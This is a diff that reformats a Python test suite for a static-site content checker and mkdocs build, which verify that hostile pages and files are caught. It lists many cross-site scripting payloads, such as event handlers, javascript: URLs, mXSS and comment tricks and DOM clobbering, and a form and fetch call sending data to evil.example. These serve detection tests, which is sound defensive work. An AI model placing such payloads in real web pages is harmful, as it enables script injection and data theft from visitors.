@@ -64,6 +64,7 @@ NOISE = frozenset({"authenticity-copied", "authenticity-voice"})
 
 # -- the manifest ----------------------------------------------------------------------------
 
+
 @dataclass
 class Case:
     """One hostile file and what the gate must make of it."""
@@ -83,8 +84,7 @@ class Case:
 
     def accepts(self, rule: str) -> bool:
         """Whether a finding of ``rule`` counts for this case."""
-        return any(f == "*" or rule.startswith(f) or rule == f.rstrip("-")
-                   for f in self.families)
+        return any(f == "*" or rule.startswith(f) or rule == f.rstrip("-") for f in self.families)
 
 
 def load_manifest(path: Path = MANIFEST) -> dict[str, Any]:
@@ -97,13 +97,22 @@ def load_cases(manifest: dict[str, Any] | None = None) -> list[Case]:
     manifest = manifest or load_manifest()
     out = []
     for raw in manifest["cases"]:
-        out.append(Case(
-            id=raw["id"], cls=raw["class"], path=raw["path"], expected=raw["expected"],
-            families=list(raw.get("families") or ["*"]), spec=raw,
-            report_in=list(raw.get("report_in") or [raw["path"]]),
-            support=list(raw.get("support") or []), isolate=bool(raw.get("isolate")),
-            or_error=bool(raw.get("or_error")), output=dict(raw.get("output") or {}),
-            note=str(raw.get("note") or "")))
+        out.append(
+            Case(
+                id=raw["id"],
+                cls=raw["class"],
+                path=raw["path"],
+                expected=raw["expected"],
+                families=list(raw.get("families") or ["*"]),
+                spec=raw,
+                report_in=list(raw.get("report_in") or [raw["path"]]),
+                support=list(raw.get("support") or []),
+                isolate=bool(raw.get("isolate")),
+                or_error=bool(raw.get("or_error")),
+                output=dict(raw.get("output") or {}),
+                note=str(raw.get("note") or ""),
+            )
+        )
     return out
 
 
@@ -187,8 +196,11 @@ def write_entry(root: Path, spec: dict[str, Any], manifest: dict[str, Any]) -> P
     elif "post" in spec:
         path.write_bytes(compose_post(spec["post"], manifest).encode("utf-8"))
     elif "deep_quotes" in spec or "deep_list" in spec:
-        body = (_deep_quotes(spec["deep_quotes"]) if "deep_quotes" in spec
-                else _deep_list(spec["deep_list"]))
+        body = (
+            _deep_quotes(spec["deep_quotes"])
+            if "deep_quotes" in spec
+            else _deep_list(spec["deep_list"])
+        )
         path.write_bytes(compose_post({"body": body}, manifest).encode("utf-8"))
     else:
         path.write_bytes(spec["text"].encode("utf-8", "surrogatepass"))
@@ -209,8 +221,9 @@ def case_text(case: Case, manifest: dict[str, Any]) -> str | None:
     return spec["text"]
 
 
-def make_site(root: Path, cases: Iterable[Case], manifest: dict[str, Any] | None = None,
-              git: bool = True) -> FixtureSite:
+def make_site(
+    root: Path, cases: Iterable[Case], manifest: dict[str, Any] | None = None, git: bool = True
+) -> FixtureSite:
     """A repository with the manifest's site files, the ``cases`` and their support files
     (committed to git when ``git``)."""
     manifest = manifest or load_manifest()
@@ -229,14 +242,22 @@ def make_site(root: Path, cases: Iterable[Case], manifest: dict[str, Any] | None
 
 
 def _git(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "GIT_AUTHOR_NAME": "Corpus", "GIT_AUTHOR_EMAIL": "corpus@example.com",
-           "GIT_COMMITTER_NAME": "Corpus", "GIT_COMMITTER_EMAIL": "corpus@example.com",
-           "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
-    return subprocess.run(["git", *args], cwd=root, env=env, capture_output=True, text=True,
-                          check=True)
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "Corpus",
+        "GIT_AUTHOR_EMAIL": "corpus@example.com",
+        "GIT_COMMITTER_NAME": "Corpus",
+        "GIT_COMMITTER_EMAIL": "corpus@example.com",
+        "GIT_CONFIG_GLOBAL": os.devnull,
+        "GIT_CONFIG_NOSYSTEM": "1",
+    }
+    return subprocess.run(
+        ["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True
+    )
 
 
 # -- running the check and the build ---------------------------------------------------------
+
 
 @dataclass
 class CheckRun:
@@ -252,9 +273,14 @@ class CheckRun:
     def in_files(self, files: Iterable[str]) -> list[dict[str, Any]]:
         """The findings in any of ``files`` (a folder matches the files below it)."""
         wanted = [f.rstrip("/") for f in files]
-        return [f for f in self.findings if any(
-            str(f.get("file")) == w or str(f.get("file", "")).startswith(w + "/")
-            for w in wanted)]
+        return [
+            f
+            for f in self.findings
+            if any(
+                str(f.get("file")) == w or str(f.get("file", "")).startswith(w + "/")
+                for w in wanted
+            )
+        ]
 
 
 def _limit_memory(limit: int) -> Any:
@@ -262,24 +288,37 @@ def _limit_memory(limit: int) -> Any:
         import resource
 
         resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+
     return apply
 
 
-def run_check(site: FixtureSite, *args: str, timeout: float = CHECK_TIMEOUT,
-              memory: int | None = None) -> CheckRun:
+def run_check(
+    site: FixtureSite, *args: str, timeout: float = CHECK_TIMEOUT, memory: int | None = None
+) -> CheckRun:
     """``advocacy check --format json ARGS`` in ``site``, with a time (and memory) limit."""
     env = _env(site)
     start = time.monotonic()
     try:
         proc = subprocess.run(
             [sys.executable, "-m", "advocacy", "check", "--format", "json", *args],
-            cwd=site.root, env=env, capture_output=True, text=True, check=False,
-            timeout=timeout, preexec_fn=_limit_memory(memory) if memory else None)
+            cwd=site.root,
+            env=env,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=timeout,
+            preexec_fn=_limit_memory(memory) if memory else None,
+        )
     except subprocess.TimeoutExpired as exc:
         out = exc.stdout.decode() if isinstance(exc.stdout, bytes) else (exc.stdout or "")
         err = exc.stderr.decode() if isinstance(exc.stderr, bytes) else (exc.stderr or "")
-        return CheckRun(None, out, err, time.monotonic() - start,
-                        problem=f"did not finish within {timeout:.0f} s")
+        return CheckRun(
+            None,
+            out,
+            err,
+            time.monotonic() - start,
+            problem=f"did not finish within {timeout:.0f} s",
+        )
     run = CheckRun(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - start)
     if "Traceback" in proc.stdout + proc.stderr:
         tail = (proc.stderr or proc.stdout).strip().splitlines()[-1:]
@@ -340,15 +379,21 @@ def _env(site: FixtureSite) -> dict[str, str]:
     return env
 
 
-def run_build(site: FixtureSite, out: Path, timeout: float = CHECK_TIMEOUT
-              ) -> tuple[int | None, str]:
+def run_build(
+    site: FixtureSite, out: Path, timeout: float = CHECK_TIMEOUT
+) -> tuple[int | None, str]:
     """``mkdocs build --strict`` of ``site`` into ``out``: (exit code or None, log)."""
     env = _env(site)
     try:
         proc = subprocess.run(
             [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(out)],
-            cwd=site.root, env=env, capture_output=True, text=True, check=False,
-            timeout=timeout)
+            cwd=site.root,
+            env=env,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=timeout,
+        )
     except subprocess.TimeoutExpired:
         return None, f"mkdocs build did not finish within {timeout:.0f} s"
     return proc.returncode, proc.stdout + proc.stderr
@@ -360,8 +405,9 @@ def table(rows: Iterable[tuple[str, ...]]) -> str:
     if not rows:
         return ""
     widths = [max(len(r[i]) for r in rows) for i in range(len(rows[0]))]
-    return "\n".join("  ".join(c.ljust(w) for c, w in zip(r, widths, strict=True)).rstrip()
-                     for r in rows)
+    return "\n".join(
+        "  ".join(c.ljust(w) for c, w in zip(r, widths, strict=True)).rstrip() for r in rows
+    )
 
 
 # -- fixtures: one corpus, one check, one build ---------------------------------------------
@@ -387,10 +433,18 @@ def corpus_check(corpus: FixtureSite) -> CheckRun:
 
 # -- the manifest itself ---------------------------------------------------------------------
 
+
 def test_manifest_is_well_formed() -> None:
     """Unique ids and paths, known classes and expectations, files that exist."""
-    classes = {"field-script", "raw-html", "markdown", "hidden-text", "front-matter",
-               "build-damage", "repository"}
+    classes = {
+        "field-script",
+        "raw-html",
+        "markdown",
+        "hidden-text",
+        "front-matter",
+        "build-damage",
+        "repository",
+    }
     ids = [c.id for c in CASES]
     paths = [c.path for c in CASES]
     assert len(set(ids)) == len(ids)
@@ -405,8 +459,11 @@ def test_manifest_is_well_formed() -> None:
             assert (HOSTILE / case.spec["file"]).is_file(), case.id
         if case.expected == "builds":
             assert case.output, f"{case.id}: a builds case says what to look at"
-        kinds = [k for k in ("text", "file", "post", "kind", "deep_quotes", "deep_list")
-                 if k in case.spec]
+        kinds = [
+            k
+            for k in ("text", "file", "post", "kind", "deep_quotes", "deep_list")
+            if k in case.spec
+        ]
         assert len(kinds) == 1, f"{case.id}: exactly one way to write the file ({kinds})"
     for cls in classes:
         assert sum(c.cls == cls for c in CASES) >= 10, cls
@@ -414,8 +471,9 @@ def test_manifest_is_well_formed() -> None:
 
 def test_compose_post_replaces_keys_and_keeps_the_rest() -> None:
     """The shorthand writes the default post with the case's lines in place of the same keys."""
-    text = compose_post({"front": "title: 'x'\nvideo:\n  src: a.mp4\n", "body": "Hi\n"},
-                        MANIFEST_DATA)
+    text = compose_post(
+        {"front": "title: 'x'\nvideo:\n  src: a.mp4\n", "body": "Hi\n"}, MANIFEST_DATA
+    )
     front = yaml.safe_load(text.split("---\n")[1])
     assert front["title"] == "x"
     assert front["video"] == {"src": "a.mp4"}
@@ -424,6 +482,7 @@ def test_compose_post_replaces_keys_and_keeps_the_rest() -> None:
 
 
 # -- (a) the check ---------------------------------------------------------------------------
+
 
 def test_check_reports_every_case(corpus: FixtureSite, corpus_check: CheckRun) -> None:
     """One check of the corpus: every error case has an error of its families in its file,
@@ -434,16 +493,22 @@ def test_check_reports_every_case(corpus: FixtureSite, corpus_check: CheckRun) -
     failures = [(c.id, c.expected, why) for c in CORPUS if (why := judge(c, run))]
     ran = markers(corpus.root)
     failures += [("(repository)", "nothing runs", f"{name} was created") for name in ran]
-    assert not failures, (f"{len(failures)} of {len(CORPUS)} cases not reported as expected:\n"
-                          + table([("case", "expected", "got"), *failures]))
+    assert not failures, (
+        f"{len(failures)} of {len(CORPUS)} cases not reported as expected:\n"
+        + table([("case", "expected", "got"), *failures])
+    )
 
 
 def test_check_reports_no_line_outside_the_file(corpus_check: CheckRun) -> None:
     """Findings name a file of the repository and a line within it (or none)."""
     assert corpus_check.problem is None, f"advocacy check {corpus_check.problem}"
-    bad = [f for f in corpus_check.findings
-           if not isinstance(f.get("file"), str) or str(f.get("file")).startswith(("/", ".."))
-           or not (f.get("line") is None or (isinstance(f.get("line"), int) and f["line"] >= 1))]
+    bad = [
+        f
+        for f in corpus_check.findings
+        if not isinstance(f.get("file"), str)
+        or str(f.get("file")).startswith(("/", ".."))
+        or not (f.get("line") is None or (isinstance(f.get("line"), int) and f["line"] >= 1))
+    ]
     assert not bad, bad[:10]
 
 
@@ -471,6 +536,7 @@ def test_danish_file_name_is_checked_when_changed(tmp_path: Path) -> None:
 
 # -- (b) the build of the corpus ---------------------------------------------------------------
 
+
 def test_build_of_corpus_fails_naming_the_files(corpus: FixtureSite, tmp_path: Path) -> None:
     """``mkdocs build --strict`` refuses the corpus with a message, not a traceback, and names
     the file of every error case."""
@@ -484,12 +550,16 @@ def test_build_of_corpus_fails_naming_the_files(corpus: FixtureSite, tmp_path: P
     assert "Traceback" not in log, log[-3000:]
     ran = markers(corpus.root)
     assert not ran, f"a payload ran during the build: {ran}"
-    missing = [c.id for c in CORPUS if c.expected == "error"
-               and not any(path in log for path in c.report_in)]
+    missing = [
+        c.id
+        for c in CORPUS
+        if c.expected == "error" and not any(path in log for path in c.report_in)
+    ]
     assert not missing, f"{len(missing)} error cases not named by the build: {missing}"
 
 
 # -- (c) the cases that must build -----------------------------------------------------------
+
 
 @dataclass
 class BuildsSite:
@@ -548,29 +618,40 @@ def check_output(case: Case, page: Path) -> list[str]:
     h1 = article.find("h1")
     if want.get("h1") and (h1 is None or _text(h1) != want["h1"]):
         problems.append(f"h1 is {_text(h1) if h1 else None!r}, not {want['h1']!r}")
-    if want.get("text") and want["text"] not in _text(article) and \
-            want["text"] not in " ".join(article.get_text().split()):
+    if (
+        want.get("text")
+        and want["text"] not in _text(article)
+        and want["text"] not in " ".join(article.get_text().split())
+    ):
         problems.append(f"the text {want['text']!r} is not on the page")
     if want.get("code"):
         codes = [c.get_text() for c in article.find_all("code")]
         if not any(want["code"] in c for c in codes):
             problems.append(f"no <code> holds {want['code']!r}")
     if want.get("picture_alt"):
-        pictures = [p for p in article.find_all("picture")
-                    if p.find("img") and p.find("img").get("alt") == want["picture_alt"]]
+        pictures = [
+            p
+            for p in article.find_all("picture")
+            if p.find("img") and p.find("img").get("alt") == want["picture_alt"]
+        ]
         if not pictures:
             problems.append(f"no <picture> with alt {want['picture_alt']!r}")
         for picture in pictures:
             img = picture.find("img")
             for url in [img.get("src", ""), *srcset_urls(img.get("srcset", ""))]:
-                if unsafe_scheme(url) or url_host(url, "https://careers.example.com/x/") \
-                        not in (None, "careers.example.com"):
+                if unsafe_scheme(url) or url_host(url, "https://careers.example.com/x/") not in (
+                    None,
+                    "careers.example.com",
+                ):
                     problems.append(f"the picture loads {url!r}")
         if "](" in _text(article) or "&lt;picture" in str(article):
             problems.append("Markdown or escaped markup of a picture shows as text")
     if want.get("linked_picture"):
-        links = [a for a in article.find_all("a", href=want["linked_picture"])
-                 if a.find("picture") or a.find("img")]
+        links = [
+            a
+            for a in article.find_all("a", href=want["linked_picture"])
+            if a.find("picture") or a.find("img")
+        ]
         if not links:
             problems.append(f"no link to {want['linked_picture']!r} around the picture")
     return problems
@@ -609,8 +690,11 @@ def test_builds_cases_run_no_script(builds_site: BuildsSite) -> None:
     if builds_site.code != 0:
         pytest.fail(f"the builds site did not build:\n{builds_site.log[-2000:]}")
     pages = [_page(builds_site.out, c) for c in BUILDS]
-    rels = [p.relative_to(builds_site.out).as_posix().removesuffix("index.html")
-            for p in pages if p is not None]
+    rels = [
+        p.relative_to(builds_site.out).as_posix().removesuffix("index.html")
+        for p in pages
+        if p is not None
+    ]
     with BrowserSession(settle_ms=150) as browser:
         events = browser.visit(builds_site.out, rels)
         # The search index is one file for the whole site: one search shows every entry.
@@ -635,14 +719,22 @@ PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>t</title>
 SCANNER_CASES = [
     ("script", "<p>x</p><script>alert('PWNED')</script>", "inline script"),
     ("script-other-host", '<script src="https://evil.example/x.js"></script>', "another host"),
-    ("script-own-name-elsewhere", '<script src="../media/advocacy.js"></script>',
-     "outside assets"),
-    ("ld-json-lt", '<script type="application/ld+json">{"name": "<b>x</b>"}</script>',
-     "contains '<'"),
-    ("ld-json-breakout", '<script type="application/ld+json">{"name": "</script><b>"}</script>',
-     "application/ld+json"),
-    ("ld-json-url", '<script type="application/ld+json">{"url": "javascript:alert(1)"}</script>',
-     "javascript: URL"),
+    ("script-own-name-elsewhere", '<script src="../media/advocacy.js"></script>', "outside assets"),
+    (
+        "ld-json-lt",
+        '<script type="application/ld+json">{"name": "<b>x</b>"}</script>',
+        "contains '<'",
+    ),
+    (
+        "ld-json-breakout",
+        '<script type="application/ld+json">{"name": "</script><b>"}</script>',
+        "application/ld+json",
+    ),
+    (
+        "ld-json-url",
+        '<script type="application/ld+json">{"url": "javascript:alert(1)"}</script>',
+        "javascript: URL",
+    ),
     ("handler", "<img src=x onerror=alert(1)>", "event handler onerror"),
     ("handler-case", "<IMG SRC=x OnErRoR=alert(1)>", "event handler onerror"),
     ("handler-slashes", '<img/src="x"/onerror=alert(1)>', "event handler onerror"),
@@ -655,42 +747,71 @@ SCANNER_CASES = [
     ("href-vbscript", '<a href="VBScript:msgbox(1)">x</a>', "vbscript: URL"),
     ("href-data", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL"),
     ("formaction", '<button formaction="javascript:alert(1)">x</button>', "javascript: URL"),
-    ("xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-     "javascript: URL"),
-    ("svg-set", '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
-     "animates a link target"),
+    (
+        "xlink",
+        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+        "javascript: URL",
+    ),
+    (
+        "svg-set",
+        '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
+        "animates a link target",
+    ),
     ("img-other-host", '<img src="https://evil.example/p.png" alt="">', "another host"),
     ("img-protocol-relative", '<img src="//evil.example/p.png" alt="">', "another host"),
     ("img-backslash", '<img src="/\\evil.example/p.png" alt="">', "another host"),
-    ("srcset-other-host", '<img src="a.jpg" srcset="a.jpg 1x, https://evil.example/b.png 2x">',
-     "another host"),
+    (
+        "srcset-other-host",
+        '<img src="a.jpg" srcset="a.jpg 1x, https://evil.example/b.png 2x">',
+        "another host",
+    ),
     ("poster-other-host", '<video poster="https://evil.example/p.jpg"></video>', "another host"),
     ("object-data", '<object data="https://evil.example/x.swf"></object>', "forbidden element"),
     ("iframe", '<iframe src="page.html"></iframe>', "forbidden element <iframe"),
-    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
-     "srcdoc"),
+    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc"),
     ("embed", '<embed src="x.swf">', "forbidden element <embed"),
-    ("form", '<form action="https://evil.example/collect"><input name=cpr></form>',
-     "forbidden element <form"),
-    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-     "<meta http-equiv>"),
+    (
+        "form",
+        '<form action="https://evil.example/collect"><input name=cpr></form>',
+        "forbidden element <form",
+    ),
+    (
+        "meta-refresh",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+        "<meta http-equiv>",
+    ),
     ("base", '<base href="https://evil.example/">', "forbidden element <base"),
-    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">',
-     "another host"),
+    (
+        "link-stylesheet",
+        '<link rel="stylesheet" href="https://evil.example/x.css">',
+        "another host",
+    ),
     ("style-element", "<style>@import url(https://evil.example/x.css);</style>", "<style>"),
     ("comment-abrupt", "<!--> <img src=x onerror=alert(1)> -->", "onerror"),
     ("comment-bang", "<!-- a --!> <img src=x onerror=alert(1)> -->", "onerror"),
     ("cdata-bogus", "<![CDATA[ ><img src=x onerror=alert(1)> ]]>", "onerror"),
-    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-     "onerror"),
-    ("textarea", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-     "onerror"),
+    (
+        "noscript-mxss",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+        "onerror",
+    ),
+    (
+        "textarea",
+        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+        "onerror",
+    ),
     ("details", "<details open ontoggle=alert(1)><summary>x</summary></details>", "ontoggle"),
-    ("id-clobber", '<p id="__config">{"search": "https://evil.example/w.js"}</p>',
-     "DOM clobbering"),
+    (
+        "id-clobber",
+        '<p id="__config">{"search": "https://evil.example/w.js"}</p>',
+        "DOM clobbering",
+    ),
     ("unclosed-tag", "<p>Welcome <img src=x onerror=alert(1) x=</p>", "onerror"),
-    ("ping", '<a href="https://example.org" ping="https://evil.example/t">x</a>',
-     "ping='https://evil.example/t' loads from another host"),
+    (
+        "ping",
+        '<a href="https://example.org" ping="https://evil.example/t">x</a>',
+        "ping='https://evil.example/t' loads from another host",
+    ),
 ]
 
 
@@ -706,10 +827,12 @@ def test_payload_scan_accepts_the_sites_own_markup(tmp_path: Path) -> None:
     assert _scan_page(tmp_path, "<p>Hello <a href='https://example.org'>there</a></p>") == []
 
 
-@pytest.mark.parametrize(("name", "body", "expect"), SCANNER_CASES,
-                         ids=[c[0] for c in SCANNER_CASES])
-def test_payload_scan_finds_known_payloads(tmp_path: Path, name: str, body: str,
-                                           expect: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "body", "expect"), SCANNER_CASES, ids=[c[0] for c in SCANNER_CASES]
+)
+def test_payload_scan_finds_known_payloads(
+    tmp_path: Path, name: str, body: str, expect: str
+) -> None:
     """Each class of payload, in a page that is otherwise the site's own markup."""
     found = _scan_page(tmp_path, body)
     assert any(expect in line for line in found), (name, found)
@@ -724,21 +847,28 @@ def test_payload_scan_reads_feeds_search_index_and_json_feed(tmp_path: Path) -> 
     (site / "search" / "search_index.json").write_text(
         '{"config": {}, "docs": [{"location": "a/", "title": "<img src=x onerror=alert(1)>",'
         ' "text": "ok"}, {"location": "javascript:alert(1)", "title": "t", "text": ""}]}',
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     (site / "blog" / "feed_rss.xml").write_text(
         '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
         "<link>https://careers.example.com/</link><item><title>a</title>"
         "<description>&lt;script&gt;alert(1)&lt;/script&gt;</description>"
         '<enclosure url="https://evil.example/x.jpg" type="image/jpeg" length="1"/>'
-        "</item></channel></rss>", encoding="utf-8")
+        "</item></channel></rss>",
+        encoding="utf-8",
+    )
     (site / "blog" / "feed_atom.xml").write_text(
         '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
         '<entry><title>a</title><content type="html"><![CDATA[<p style="color:red">x</p>]]>'
-        '</content><link href="javascript:alert(1)"/></entry></feed>', encoding="utf-8")
+        '</content><link href="javascript:alert(1)"/></entry></feed>',
+        encoding="utf-8",
+    )
     (site / "blog" / "feed.json").write_text(
         '{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{"id": "1",'
         ' "content_html": "<svg onload=alert(1)>", "image": "https://evil.example/i.png",'
-        ' "url": "javascript:alert(1)"}]}', encoding="utf-8")
+        ' "url": "javascript:alert(1)"}]}',
+        encoding="utf-8",
+    )
     found = "\n".join(find_payloads(site))
     assert "search/search_index.json: search entry 'a/' title: event handler onerror" in found
     assert "search entry location uses a javascript: URL" in found
@@ -747,8 +877,9 @@ def test_payload_scan_reads_feeds_search_index_and_json_feed(tmp_path: Path) -> 
     assert "blog/feed_atom.xml: <content>: style attribute" in found
     assert "blog/feed_atom.xml: <link href='javascript:alert(1)'> uses a javascript: URL" in found
     assert "blog/feed.json: JSON content_html: event handler onload" in found
-    assert "blog/feed.json: JSON image='https://evil.example/i.png' loads from another host" \
-        in found
+    assert (
+        "blog/feed.json: JSON image='https://evil.example/i.png' loads from another host" in found
+    )
     assert "blog/feed.json: JSON url='javascript:alert(1)' uses a javascript: URL" in found
 
 
@@ -759,13 +890,16 @@ def test_payload_scan_reports_files_that_must_not_be_published(tmp_path: Path) -
     (site / "policy.yml").write_text("confidential_terms: [Projekt Fyrtårn]\n", "utf-8")
     (site / "media" / "IMG_1.HEIC").write_bytes(b"\0\0\0\x18ftypheic")
     (site / "x.js").write_text("window.PWNED = 1\n", "utf-8")
-    (site / "media" / "logo.svg").write_text((HOSTILE / "files" / "logo-script.svg").read_text(
-        "utf-8"), "utf-8")
+    (site / "media" / "logo.svg").write_text(
+        (HOSTILE / "files" / "logo-script.svg").read_text("utf-8"), "utf-8"
+    )
     (site / "passwd.html").write_text("<p>root:x:0:0:root:/root:/bin/bash</p>", "utf-8")
     os.symlink("/etc/hostname", site / "link.txt")
     (site / "media" / "c.en.vtt").write_text(
         "WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/c.png) }\n\n"
-        "00:00:00.000 --> 00:00:01.000\n<v Mette>Hi <img src=x onerror=alert(1)>\n", "utf-8")
+        "00:00:00.000 --> 00:00:01.000\n<v Mette>Hi <img src=x onerror=alert(1)>\n",
+        "utf-8",
+    )
     found = "\n".join(find_payloads(site, secrets=SECRETS))
     assert "policy.yml: contains 'Projekt Fyrtårn'" in found
     assert "policy.yml: a source or original file (.yml) was published" in found
@@ -791,8 +925,7 @@ def test_payload_scan_normalises_urls_like_a_browser() -> None:
     assert unsafe_scheme("media/data:x.jpg") is None
     assert url_host("https://INTRANET.kystlinje.example./x") == "intranet.kystlinje.example"
     assert url_host("https://ｉntranet。kystlinje。example/") == "intranet.kystlinje.example"
-    assert url_host("https://a.example@intranet.kystlinje.example/") == \
-        "intranet.kystlinje.example"
+    assert url_host("https://a.example@intranet.kystlinje.example/") == "intranet.kystlinje.example"
     assert url_host("/\\evil.example/x") == "evil.example"
     assert url_host("../media/x.jpg") == "site.invalid"
     assert srcset_urls("a.jpg 1x, b.jpg 2x") == ["a.jpg", "b.jpg"]
@@ -805,15 +938,18 @@ def test_browser_check_sees_a_script_run(tmp_path: Path) -> None:
     site = tmp_path / "site"
     (site / "bad").mkdir(parents=True)
     (site / "good").mkdir()
-    (site / "bad" / "index.html").write_text(textwrap.dedent("""\
+    (site / "bad" / "index.html").write_text(
+        textwrap.dedent("""\
         <!doctype html><html><head><title>x</title></head><body>
         <img src=x onerror="alert('PWNED')">
         <script>window.PWNED = 1; fetch('https://evil.example/steal').catch(() => 0)</script>
         <p onmouseover="console.log('PWNED hover')">hover</p>
-        </body></html>"""), "utf-8")
+        </body></html>"""),
+        "utf-8",
+    )
     (site / "good" / "index.html").write_text(
-        "<!doctype html><html><head><title>x</title></head><body><p>Hi</p></body></html>",
-        "utf-8")
+        "<!doctype html><html><head><title>x</title></head><body><p>Hi</p></body></html>", "utf-8"
+    )
     events = [str(e) for e in run_pages_in_browser(site, ["bad/", "good/"], settle_ms=200)]
     joined = "\n".join(events)
     assert "bad/: alert() dialog: 'PWNED'" in joined
